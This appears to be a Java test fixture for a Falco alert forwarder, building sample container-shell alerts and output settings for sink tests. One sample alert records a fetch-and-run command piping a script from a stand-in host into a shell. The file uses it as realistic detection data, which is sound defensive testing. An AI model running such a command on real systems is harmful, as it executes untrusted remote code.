package dev.vigil.outputs.http;

import dev.vigil.event.Priority;
import dev.vigil.pipeline.AlertFormatException;
import dev.vigil.pipeline.Envelope;
import dev.vigil.pipeline.FalcoAlert;
import dev.vigil.pipeline.OutputSettings;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** The alerts and settings the sink tests share. */
final class Samples {
    static final String UUID = "3f1d2b4c-5a6e-4f70-8192-a3b4c5d6e7f8";
    /** 2026-11-26T10:00:00Z. */
    static final long EPOCH_SECONDS = 1_795_687_200L;

    /** A Falco alert as Falco's http_output sends it, with the forwarder's uuid. */
    static final String ALERT_JSON = """
            {"hostname":"node-1",\
            "output":"10:00:00.123456789: Warning Shell spawned in a container (user=root pod=web-0 cmd=bash)",\
            "output_fields":{"container.id":"abc123","evt.time":1795687200123456789,"fd.name":null,\
            "k8s.ns.name":"default","k8s.pod.name":"web-0","proc.cmdline":"bash -c 'curl -s http://example.invalid/x | sh'","user.name":"root"},\
            "priority":"Warning","rule":"Terminal shell in container","source":"syscalls",\
            "tags":["container","mitre_execution","shell"],"time":"2026-11-26T10:00:00.123456789Z",\
            "uuid":"3f1d2b4c-5a6e-4f70-8192-a3b4c5d6e7f8"}""";

    private Samples() {}

    static FalcoAlert alert() {
        try {
            return FalcoAlert.parse(ALERT_JSON.getBytes(StandardCharsets.UTF_8));
        } catch (AlertFormatException e) {
            throw new AssertionError(e);
        }
    }

    /** Another alert: its own uuid, rule, priority, pod, and a time {@code i} seconds later. */
    static FalcoAlert variant(int i, Priority priority) {
        FalcoAlert a = alert();
        Map<String, Object> fields = new LinkedHashMap<>(a.outputFields());
        fields.put("k8s.pod.name", "web-" + i);
        return new FalcoAlert(String.format("00000000-0000-4000-8000-%012d", i), a.timeNanos() + i * 1_000_000_000L, priority,
                "Rule " + i, a.source(), a.tags(), a.hostname(), "output " + i, fields);
    }

    static Envelope envelope(FalcoAlert a) {
        return Envelope.of(a);
    }

    static List<Envelope> envelopes(FalcoAlert... alerts) {
        return java.util.Arrays.stream(alerts).map(Envelope::of).toList();
    }

    /** {@code first} followed by {@code rest}: fixed settings in front of a test's own. */
    static String[] plus(String[] rest, String... first) {
        String[] all = java.util.Arrays.copyOf(first, first.length + rest.length);
        System.arraycopy(rest, 0, all, first.length, rest.length);
        return all;
    }

    /** Settings of an output named {@code test-<type>}; {@code kv} alternate key and value. */
    static OutputSettings settings(String type, String... kv) {
        Map<String, String> m = new LinkedHashMap<>();
        for (int i = 0; i + 1 < kv.length; i += 2) {
            m.put(kv[i], kv[i + 1]);
        }
        return new OutputSettings("test-" + type, type, m, "test");
    }
}
